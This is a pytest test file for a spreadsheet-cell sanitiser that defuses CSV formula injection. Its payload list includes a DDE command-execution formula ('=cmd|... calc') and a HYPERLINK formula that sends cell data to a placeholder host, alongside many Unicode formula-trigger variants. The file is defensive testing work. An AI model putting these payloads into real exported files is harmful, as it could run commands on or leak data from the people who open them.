"""Cells that a spreadsheet opens as text, whatever a stranger wrote."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from footfall.storage.spreadsheet import safe_cell

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttext",
    " =1+1",
    "  \u00a0@x",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000＝1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "\0=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_could_be_a_formula_is_made_text(payload: str) -> None:
    """By an apostrophe ahead; nothing else of it is changed."""
    assert safe_cell(payload) == "'" + payload.replace("\0", "")


@pytest.mark.parametrize("text", ["home", "a=b", "1-2", "", "ü", "'quoted'", "(=x)", "a\nb", '"=1"', "12", "√-1"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("number", "cell"), [(-5, "-5"), (0, "0"), (2.5, "2.5"), (-0.25, "-0.25"), (Decimal("-1.10"), "-1.10")]
)
def test_numbers_stay_numbers(number: object, cell: str) -> None:
    """A minus sign of a number is no formula's."""
    assert safe_cell(number) == cell


def test_nothing_is_an_empty_cell() -> None:
    assert safe_cell(None) == ""


@given(st.text())
def test_no_text_comes_out_as_a_formula(text: str) -> None:
    """As a program reads the file that splits it into cells, and looks past what it does not show."""
    out = io.StringIO()
    csv.writer(out).writerow([safe_cell(text), "next"])

    cell = next(csv.reader(io.StringIO(out.getvalue(), newline="")))[0]
    assert cell.removeprefix("'") == text.replace("\0", "").removeprefix("'")
    assert not cell.lstrip(" \u00a0\u200b\ufeff\u3000").startswith(
        ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
    )
